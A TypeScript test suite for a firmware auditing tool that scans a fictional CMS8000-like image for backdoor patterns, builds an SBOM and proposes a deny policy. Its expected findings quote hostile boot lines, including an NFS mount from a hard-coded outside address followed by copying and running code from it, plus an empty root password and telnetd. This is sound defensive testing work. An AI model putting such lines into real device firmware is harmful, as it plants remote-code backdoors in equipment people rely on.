// End to end over images built here: a CMS8000-like image (fictional addresses) in squashfs
// and cramfs, a clean image, other formats, the SBOM and the traffic cross-link.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as CDX from '@cyclonedx/cyclonedx-library';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { PolicyFile } from '../../src/contract/policy.js';
import { severityRank } from '../../src/contract/records.js';
import { auditFirmware } from '../../src/firmware/audit.js';
import { buildSbom } from '../../src/firmware/sbom.js';
import type { AuditReport, Finding } from '../../src/firmware/types.js';
import {
  cleanTree,
  cms8000Tree,
  MONITOR_ADDRESS,
  minimalElf,
  missingTools,
  mkcramfs,
  mksquashfs,
  NFS_ADDRESS,
  tarArchive,
  writeTree,
} from './images.js';

const missing = missingTools();
const base = mkdtempSync(join(tmpdir(), 'ww-fw-audit-'));
const unpackTmp = join(base, 'tmp');
const savedTmp = process.env.TMPDIR;

beforeAll(() => {
  mkdirSync(unpackTmp);
  // Every unpack lands in our own TMPDIR, so "nothing left behind" is checkable.
  process.env.TMPDIR = unpackTmp;
});
afterEach(() => {
  expect(readdirSync(unpackTmp)).toEqual([]);
});
afterAll(() => {
  process.env.TMPDIR = savedTmp;
  rmSync(base, { recursive: true, force: true });
});

function short(f: Finding): unknown[] {
  return [f.id, f.severity, f.file, f.line ?? f.offset, f.address ?? null, f.evidence];
}

const monitorOffset = Buffer.from(
  minimalElf({
    interp: '/lib/ld-uClibc.so.0',
    needed: ['libc.so.0', 'libpthread.so.0'],
    data: `hl7 server ${MONITOR_ADDRESS}`,
  }),
).indexOf(MONITOR_ADDRESS);

const CMS_FINDINGS = [
  ['fw.empty-password', 'critical', 'etc/passwd', 1, null, 'root::0:0:root:/root:/bin/sh'],
  ['fw.remote-exec', 'critical', 'etc/init.d/rcS', 7, NFS_ADDRESS, 'cp /mnt/* /opt/app/; /opt/app/run'],
  ['fw.remote-mount', 'critical', 'etc/init.d/rcS', 6, NFS_ADDRESS, `mount -t nfs -o nolock ${NFS_ADDRESS}:/pm /mnt`],
  ['fw.debug-interface', 'high', 'etc/inittab', 2, null, 'console::respawn:-/bin/sh'],
  ['fw.hardcoded-address', 'high', 'etc/init.d/rcS', 6, NFS_ADDRESS, `mount -t nfs -o nolock ${NFS_ADDRESS}:/pm /mnt`],
  ['fw.hardcoded-address', 'high', 'opt/app/monitor', monitorOffset, MONITOR_ADDRESS, `hl7 server ${MONITOR_ADDRESS}`],
  ['fw.insecure-service', 'high', 'etc/init.d/rcS', 8, null, 'telnetd'],
  ['fw.private-key', 'high', 'etc/ssl/device.key', 1, null, '-----BEGIN RSA PRIVATE KEY-----'],
  ['fw.interface-up', 'low', 'etc/init.d/rcS', 5, null, 'ifconfig eth0 up'],
  ['fw.hardcoded-address', 'info', 'etc/init.d/rcS', 4, '127.0.0.1', 'ifconfig lo 127.0.0.1 up'],
];

describe.skipIf(missing.length > 0)('firmware audit: CMS8000-like image', () => {
  let tree: string;
  let squash: string;
  let cramfs: string;
  let report: AuditReport;
  let tempDir: string | undefined;

  beforeAll(async () => {
    tree = writeTree(join(base, 'cms'), cms8000Tree());
    squash = mksquashfs(tree, join(base, 'cms.sqfs'));
    cramfs = mkcramfs(tree, join(base, 'cms.cramfs'));
    report = await auditFirmware(squash, { onTempDir: (d) => (tempDir = d) });
  });

  it('reports every finding of the boot chain with file, line or offset, and evidence', () => {
    expect(report.format).toBe('squashfs');
    expect(report.files).toBe(7);
    expect(report.findings.map(short)).toEqual(CMS_FINDINGS);
  });

  it('classifies addresses by zone', () => {
    const zones = Object.fromEntries(
      report.findings.filter((f) => f.id === 'fw.hardcoded-address').map((f) => [f.address, f.zone]),
    );
    expect(zones).toEqual({ [NFS_ADDRESS]: 'outside', [MONITOR_ADDRESS]: 'outside', '127.0.0.1': 'special' });
  });

  it('reads the ELF binary: architecture, interpreter, needed libraries', () => {
    expect(report.binaries).toEqual([
      {
        file: 'opt/app/monitor',
        class: 64,
        endian: 'little',
        machine: 'x86-64',
        type: 'executable',
        interpreter: '/lib/ld-uClibc.so.0',
        needed: ['libc.so.0', 'libpthread.so.0'],
      },
    ]);
  });

  it('lists components with versions and purls', () => {
    expect(report.components).toEqual([
      { name: 'busybox', version: '1.20.2', file: 'bin/busybox', purl: 'pkg:generic/busybox@1.20.2' },
      { name: 'uclibc', version: '0.9.33.2', file: 'lib/ld-uClibc-0.9.33.2.so', purl: 'pkg:generic/uclibc@0.9.33.2' },
    ]);
  });

  it('removes its private temp dir', () => {
    expect(tempDir).toMatch(/\/wardwatch-\d+\/fw-\d+-/);
    expect(tempDir!.startsWith(unpackTmp)).toBe(true);
    expect(() => readdirSync(tempDir!)).toThrow();
  });

  it('finds the same in the cramfs image and in the unpacked directory (scanned in place)', async () => {
    const fromCramfs = await auditFirmware(cramfs);
    expect(fromCramfs.format).toBe('cramfs');
    expect(fromCramfs.findings.map(short)).toEqual(CMS_FINDINGS);
    const fromDir = await auditFirmware(tree);
    expect(fromDir.format).toBe('directory');
    expect(fromDir.findings.map(short)).toEqual(CMS_FINDINGS);
  });

  it('writes a CycloneDX 1.6 SBOM that validates against the schema', async () => {
    const json = buildSbom(report);
    const validator = new CDX.Validation.JsonStrictValidator(CDX.Spec.Version.v1dot6);
    expect(await validator.validate(json)).toBeNull();
    const bom = JSON.parse(json) as { components: { name: string; version?: string; purl?: string }[] };
    expect(bom.components.map((c) => [c.name, c.version, c.purl])).toEqual([
      ['busybox', '1.20.2', 'pkg:generic/busybox@1.20.2'],
      ['uclibc', '0.9.33.2', 'pkg:generic/uclibc@0.9.33.2'],
    ]);
  });

  it('matches OSV records and puts them into the SBOM', async () => {
    const osv = join(base, 'osv');
    mkdirSync(osv, { recursive: true });
    const rec = (id: string, events: object[]) => ({
      id,
      summary: `${id} summary`,
      affected: [{ package: { name: 'BusyBox', ecosystem: 'Debian' }, ranges: [{ type: 'ECOSYSTEM', events }] }],
    });
    writeFileSync(join(osv, 'a.json'), JSON.stringify(rec('OSV-TEST-1', [{ introduced: '0' }, { fixed: '1.21.0' }])));
    writeFileSync(
      join(osv, 'b.json'),
      JSON.stringify(rec('OSV-TEST-2', [{ introduced: '1.30.0' }, { fixed: '1.31.0' }])),
    );
    writeFileSync(join(osv, 'broken.json'), '{');
    const r = await auditFirmware(squash, { osvDir: osv });
    const bb = r.components.find((c) => c.name === 'busybox')!;
    expect(bb.vulnerabilities).toEqual([{ id: 'OSV-TEST-1', summary: 'OSV-TEST-1 summary' }]);
    expect(r.warnings.some((w) => w.includes('broken.json'))).toBe(true);
    const json = buildSbom(r);
    expect(await new CDX.Validation.JsonStrictValidator(CDX.Spec.Version.v1dot6).validate(json)).toBeNull();
    const bom = JSON.parse(json) as { vulnerabilities: { id: string; affects: { ref: string }[] }[] };
    expect(bom.vulnerabilities.map((v) => [v.id, v.affects[0]!.ref])).toEqual([['OSV-TEST-1', 'busybox@1.20.2']]);
  });

  it('cross-links with traffic and proposes a policy denying every hard-coded outside address', async () => {
    const r = await auditFirmware(squash, {
      captures: ['capture.pcap'],
      contactSource: async (paths) => {
        expect(paths).toEqual(['capture.pcap']);
        return new Set([NFS_ADDRESS, '192.168.1.5']);
      },
      model: 'CMS8000',
    });
    expect(r.contacted).toEqual([NFS_ADDRESS]);
    expect(r.notContacted).toEqual([MONITOR_ADDRESS]);
    const policy = PolicyFile.parse(r.proposedPolicy);
    expect(policy.version).toBe(1);
    expect(policy.devices).toHaveLength(1);
    expect(policy.devices[0]!.match).toEqual({ model: 'CMS8000' });
    expect(policy.devices[0]!.mode).toBe('alert');
    expect(policy.devices[0]!.deny.map((d) => [d.peer, d.proto])).toEqual([
      [NFS_ADDRESS, 'any'],
      [MONITOR_ADDRESS, 'any'],
    ]);
    expect(policy.devices[0]!.deny[0]!.reason).toContain('etc/init.d/rcS:6 (fw.hardcoded-address)');
    expect(policy.devices[0]!.deny[0]!.reason).toContain('contacted in the capture');
    expect(policy.devices[0]!.deny[1]!.reason).toContain('not contacted in the capture');
  });
});

describe.skipIf(missing.length > 0)('firmware audit: clean image and other formats', () => {
  it('a clean image has no finding of medium or above', async () => {
    const tree = writeTree(join(base, 'clean'), cleanTree());
    const r = await auditFirmware(mksquashfs(tree, join(base, 'clean.sqfs')));
    expect(r.findings.filter((f) => severityRank(f.severity) >= severityRank('medium'))).toEqual([]);
    expect(r.findings.map(short)).toEqual([
      [
        'fw.hardcoded-address',
        'low',
        'etc/init.d/rcS',
        4,
        '192.168.10.20',
        'ifconfig eth0 192.168.10.20 netmask 255.255.255.0 up',
      ],
      ['fw.interface-up', 'low', 'etc/init.d/rcS', 4, null, 'ifconfig eth0 192.168.10.20 netmask 255.255.255.0 up'],
      ['fw.hardcoded-address', 'info', 'etc/init.d/rcS', 3, '127.0.0.1', 'ifconfig lo 127.0.0.1 up'],
      // The netmask 255.255.255.0 on line 4 is not an address: no finding.
    ]);
    expect(r.components).toEqual([
      { name: 'busybox', version: '1.36.1', file: 'bin/busybox', purl: 'pkg:generic/busybox@1.36.1' },
    ]);
  });

  it('unpacks a tar holding a squashfs one level deeper (tar>squashfs)', async () => {
    const tree = writeTree(join(base, 'nested-src'), cms8000Tree());
    mksquashfs(tree, join(base, 'rootfs.sqfs'));
    const tar = join(base, 'update.tar');
    execFileSync('tar', ['-cf', tar, '-C', base, 'rootfs.sqfs']);
    const r = await auditFirmware(tar);
    expect(r.format).toBe('tar>squashfs');
    const ids = r.findings.map((f) => [f.id, f.file]);
    expect(ids).toContainEqual(['fw.remote-mount', 'rootfs.sqfs.unpacked/etc/init.d/rcS']);
    expect(r.components.map((c) => c.name)).toEqual(['busybox', 'uclibc']);
  });

  it('reads tar.gz, cpio (newc) and ext4 images', async () => {
    const tree = writeTree(join(base, 'fmt'), cms8000Tree());
    const tgz = join(base, 'fmt.tar.gz');
    execFileSync('tar', ['-czf', tgz, '-C', tree, '.']);
    const cpio = join(base, 'fmt.cpio');
    execFileSync('/bin/sh', ['-c', `cd "${tree}" && find . | cpio -o -H newc --quiet > "${cpio}"`]);
    const expected = CMS_FINDINGS.filter((f) => f[0] === 'fw.remote-mount');
    for (const [img, fmt] of [
      [tgz, 'tar.gz'],
      [cpio, 'cpio'],
    ] as const) {
      const r = await auditFirmware(img);
      expect(r.format).toBe(fmt);
      expect(r.findings.filter((f) => f.id === 'fw.remote-mount').map(short)).toEqual(expected);
    }
    const ext = join(base, 'fmt.ext4');
    try {
      execFileSync('mke2fs', ['-q', '-t', 'ext4', '-d', tree, ext, '4M'], { stdio: 'ignore' });
    } catch {
      return; // mke2fs without -d support: ext is covered where e2fsprogs is recent
    }
    const r = await auditFirmware(ext);
    expect(r.format).toBe('ext');
    expect(r.findings.map(short)).toEqual(CMS_FINDINGS);
  });

  it('reads tar.xz, zip (when unzip exists) and a gzip-compressed single binary', async () => {
    const tree = writeTree(join(base, 'fmt2'), cms8000Tree());
    const txz = join(base, 'fmt2.tar.xz');
    execFileSync('tar', ['-cJf', txz, '-C', tree, '.']);
    const r = await auditFirmware(txz);
    expect(r.format).toBe('tar.xz');
    expect(r.findings.map(short)).toEqual(CMS_FINDINGS);
    const zip = join(base, 'fmt2.zip');
    let zipped = true;
    try {
      execFileSync('zip', ['-qry', zip, '.'], { cwd: tree });
      execFileSync('/bin/sh', ['-c', 'command -v unzip'], { stdio: 'ignore' });
    } catch {
      zipped = false;
    }
    if (zipped) {
      const z = await auditFirmware(zip);
      expect(z.format).toBe('zip');
      expect(z.findings.map(short)).toEqual(CMS_FINDINGS);
    }
    const gz = join(base, 'monitor.gz');
    execFileSync('/bin/sh', ['-c', `gzip -c "${join(tree, 'opt/app/monitor')}" > "${gz}"`]);
    const g = await auditFirmware(gz);
    expect(g.format).toBe('gzip');
    expect(g.findings.map((f) => [f.id, f.file, f.address])).toEqual([
      ['fw.hardcoded-address', 'monitor', MONITOR_ADDRESS],
    ]);
    expect(g.binaries.map((b) => b.machine)).toEqual(['x86-64']);
  });

  it('rejects a file that is not an image, with a clear error', async () => {
    const f = join(base, 'notes.txt');
    writeFileSync(f, 'hello');
    await expect(auditFirmware(f)).rejects.toMatchObject({ code: 'WW_FIRMWARE', exitCode: 2 });
    await expect(auditFirmware(join(base, 'missing.img'))).rejects.toThrow(/cannot read/);
    const tar = join(base, 'ok.tar');
    writeFileSync(tar, tarArchive([{ name: 'etc/passwd', data: 'root::0:0::/:/bin/sh\n' }]));
    expect((await auditFirmware(tar)).findings.map((f) => f.id)).toEqual(['fw.empty-password']);
  });
});
